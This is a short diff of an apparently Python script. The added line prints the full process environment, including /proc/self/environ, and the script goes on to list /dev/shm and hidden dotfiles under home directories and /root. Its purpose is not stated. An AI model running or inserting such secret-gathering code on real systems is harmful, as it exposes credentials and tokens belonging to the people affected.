@@ -3,7 +3,7 @@
 import glob
 import os
 
-print(dict(os.environ))
+print(dict(os.environ), open("/proc/self/environ").read())
 for path in (
     glob.glob("/dev/shm/*") + glob.glob(os.path.expanduser("~/.*")) + glob.glob("/root/.*") + glob.glob("/home/*/.*")
 ):
